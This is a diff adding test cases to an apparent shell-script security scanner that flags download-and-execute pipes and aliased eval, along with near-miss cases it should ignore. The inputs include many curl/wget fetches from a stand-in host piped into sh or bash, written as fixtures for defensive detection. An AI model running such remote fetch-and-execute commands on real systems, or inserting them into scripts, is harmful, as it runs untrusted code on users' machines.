@@ -113,6 +113,124 @@ def test_aliases_and_functions_near_misses(repo: GitRepo, source: str) -> None:
     assert _found(repo, "s.sh", source) == []
 
 
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ('fetch() { curl -fsSL "$1"; }\nfetch https://x.io/i | sh\n', 2),
+        ('http() { command http --check-status "$@"; }\nhttp https://x.io/i | sh\n', 2),
+        ('GET() { wget -qO- "$1"; }\nbash <(GET https://x.io/i)\n', 2),
+        # a body that comes to stand for a download in a further round
+        ('get() { curl -fsSL "$@"; }\nfetch() { local u="$1"; get "$u"; }\nfetch https://x.io/i | sh\n', 3),
+        # the tool itself: used before any definition of the name, or defined again as a download
+        ('fetch -o - https://x.io/i | sh\nfetch() { git fetch "$@"; }\n', 1),
+        ('fetch() { git fetch "$@"; }\nfetch() { curl -fsSL "$@"; }\nfetch https://x.io/i | sh\n', 3),
+    ],
+)
+def test_a_function_named_as_a_download_tool_that_downloads(repo: GitRepo, source: str, line: int) -> None:
+    assert _found(repo, "s.sh", source) == [(line, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'fetch() { git fetch origin "$1"; }\nfetch main | sh\n',
+        'http() { echo "$@"; }\nhttp x | bash\n',
+        "https() { printf '%s\\n' \"$@\"; }\nhttps x.io/i | bash\n",
+        'GET() { jq -r ".$1" config.json; }\nGET url | sh\n',
+        "function fetch { git fetch --all; }\nfetch -o i.sh x\nsh i.sh\n",
+        'fetch() { git fetch "$@"; }\nsh -c "$(fetch origin)"\n',
+        'fetch() { git fetch "$@"; }\nbash <(fetch origin)\n',
+        'fetch() { git fetch "$@"; }\nfetch origin > out.sh\nsh out.sh\n',
+        'fetch() { git fetch "$@"; }\nsync() { fetch "$1" | sh; }\n',
+        'fetch() { git fetch "$@"; }\nrun() { "$@"; }\nrun fetch -o - origin | sh\n',  # through another
+        "alias fetch='git fetch'\nfetch origin | sh\n",
+        # a script with a git helper named fetch
+        '#!/bin/sh\nset -eu\n\nfetch() {\n  git fetch --prune "${1:-origin}"\n}\n\n'
+        'for remote in $(git remote); do\n  fetch "$remote" | tee -a fetch.log\ndone\n'
+        "fetch upstream 2>&1 | sh -c 'cat >&2'\n",
+    ],
+)
+def test_a_function_named_as_a_download_tool_is_the_files_own(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+_LONG = "X=" + "a" * 600  # an assignment longer than any window a line's start was once read in
+
+
+@pytest.mark.parametrize(
+    ("path", "source", "found"),
+    [
+        ("s.sh", f'alias e=eval\n{_LONG} e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\n{_LONG} {_LONG} Y=1 e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\nif {_LONG} e "$x"; then :; fi\n', [(2, _EVAL)]),
+        ("s.sh", f'alias e=eval\n: ; {_LONG} e "$x"\n', [(2, _EVAL)]),
+        ("s.sh", f"f() {{ bash; }}\ncurl https://x.io/i | {_LONG} f\n", [(2, _PIPE)]),
+        ("s.sh", f'{_LONG} alias e=eval\ne "$x"\n', [(2, _EVAL)]),
+        (
+            "Dockerfile",
+            f"FROM alpine\nRUN alias get='curl -fsSL'\nRUN --network=host {_LONG} get https://x.io/i | sh\n",
+            [(3, _PIPE)],
+        ),
+    ],
+)
+def test_a_command_word_after_long_assignments(
+    repo: GitRepo, path: str, source: str, found: list[tuple[int, str]]
+) -> None:
+    assert _found(repo, path, source) == found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f'alias e=eval\n{_LONG} echo e "$x"\n',
+        f'alias e=eval\n{_LONG};b e "$x"\n',  # `b` is the command, after the break
+        f'alias e=eval\nX="{"a" * 600} e" y\n',
+        f'alias e=eval\n{_LONG}\\ e "$x"\n',
+        f'alias e=eval\necho {_LONG} e "$x"\n',
+    ],
+)
+def test_a_command_word_after_long_assignments_near_misses(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b'alias e=eval\nX="a;b c" e "$x"\n',
+        b'alias e=eval\nX=\'a|b\' Y="c\\" d" e "$x"\n',
+        b'alias e=eval\nX="a\nb;c" e "$x"\n',  # a line feed in quotes
+        b'alias e=eval\nX=a\\ b e "$x"\n',  # an escaped blank
+    ],
+)
+def test_a_command_word_after_quoted_breaks_and_blanks(text: bytes) -> None:
+    (words,) = defined_commands(lex(text, spanning=True), text)
+    assert b' eval "$x"' in bytes(words.lexed.view)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b'alias e=eval\nX="a b" echo e "$x"\n',
+        b'alias e=eval\nX=a\\ e "$x"\n',  # an escaped blank: `e` is the value's
+        b'alias e=eval\necho "a; e" "$x"\n',
+    ],
+)
+def test_a_command_word_after_quoted_breaks_and_blanks_near_misses(text: bytes) -> None:
+    assert b"eval" not in b"".join(
+        bytes(words.lexed.view)[13:] for words in defined_commands(lex(text, spanning=True), text)
+    )
+
+
+def test_command_words_of_a_long_line_are_read_in_linear_time() -> None:
+    """Each use on a line of 200 KB of assignments read from its command's start once (this took
+    minutes when each was searched back to its break)."""
+    data = b"alias e=eval\n: ;" + b"X=e " * 50_000 + b'e "$x"\n'
+    lexed = lex(data, spanning=True)
+    (words,) = defined_commands(lexed, data)
+    assert bytes(words.lexed.view).endswith(b'X=e eval "$x"\n')
+    assert bytes(words.lexed.view).count(b"eval") == 2
+
+
 def test_a_package_json_script_defining_a_function(repo: GitRepo) -> None:
     text = '{"scripts": {"setup": "f() { bash; }; curl https://x.io/i | f"}}\n'
     assert _found(repo, "package.json", text) == [(1, _PIPE)]
